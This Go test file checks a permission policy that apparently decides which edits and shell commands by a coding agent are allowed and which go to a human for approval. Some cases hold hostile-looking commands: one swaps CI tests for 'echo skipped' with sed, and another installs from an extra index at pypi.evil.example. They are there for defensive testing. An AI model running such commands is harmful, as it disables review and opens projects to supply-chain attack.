package persona

import (
	"testing"

	"github.com/govern-dev/govern"
)

func TestArchitecture(t *testing.T) {
	t.Parallel()
	allow, ask := govern.Allow, govern.Ask
	runVerdicts(t, SarahChen, architecture, []verdictCase{
		{"edit inside the project", edit("Edit", "src/app.go", "x"), allow, ""},
		{"edit outside the project", edit("Edit", "/home/dev/other/app.go", "x"), ask, "outside the project"},
		{"edit through ..", edit("Write", "../other/app.go", "x"), ask, "outside the project"},
		{"write a temp file", edit("Write", "/tmp/scratch.txt", "x"), allow, ""},
		{"shell write outside", cmd(`echo x > ~/notes.txt`), ask, "outside the project"},
		{"shell write inside", cmd(`go test ./... > test.log`), allow, ""},
		{"workflow", edit("Edit", ".github/workflows/ci.yml", "on: push"), allow, "CI change in ci.yml"},
		{"gitlab ci", edit("Write", ".gitlab-ci.yml", "stages: []"), allow, "CI change"},
		{"workflow edited by sed", cmd(`sed -i 's/npm test/echo skipped/' .github/workflows/ci.yml`), ask, "from the shell, where the change cannot be reviewed"},
		{"workflow replaced by cp", cmd(`cp /tmp/ci.yml .github/workflows/ci.yml`), ask, "changes the CI configuration ci.yml"},
		{"workflow read by the shell", cmd(`cat .github/workflows/ci.yml`), allow, ""},
		{"Dockerfile", edit("Edit", "Dockerfile", "FROM alpine"), allow, "Build configuration change in Dockerfile"},
		{"Makefile by shell", cmd(`echo 'all:' > Makefile`), allow, "Makefile"},
		{"package.json postinstall", edit("Edit", "package.json", `"postinstall": "node x.js"`), allow, "install scripts"},
		{"npm install a package", cmd(`npm install lodash`), allow, "New dependency lodash"},
		{"npm install lockfile only", cmd(`npm install`), allow, ""},
		{"npm ci", cmd(`npm ci`), allow, ""},
		{"yarn add dev", cmd(`yarn add -D vitest`), allow, "New dependency vitest"},
		{"go get", cmd(`go get github.com/google/go-cmp@v0.7.0`), allow, "New dependency github.com/google/go-cmp@v0.7.0"},
		{"pip install", cmd(`pip install requests==2.32.3`), allow, "New dependency requests==2.32.3"},
		{"pip install requirements", cmd(`pip install -r requirements.txt`), allow, ""},
		{"pip install editable", cmd(`pip install -e .`), allow, ""},
		{"python -m pip from git", cmd(`python3 -m pip install git+https://github.com/x/y`), ask, "straight from a URL"},
		{"npm from github shorthand", cmd(`npm i someuser/somerepo`), ask, "git repository"},
		{"npm from tarball URL", cmd(`pnpm add https://x.io/pkg.tgz`), ask, "URL"},
		{"pip extra index", cmd(`pip install --extra-index-url https://pypi.evil.example/simple foo`), ask, "package index"},
		{"cargo add", cmd(`cargo add serde`), allow, "New dependency serde"},
		{"npm run build", cmd(`npm run build`), allow, ""},
	})
}
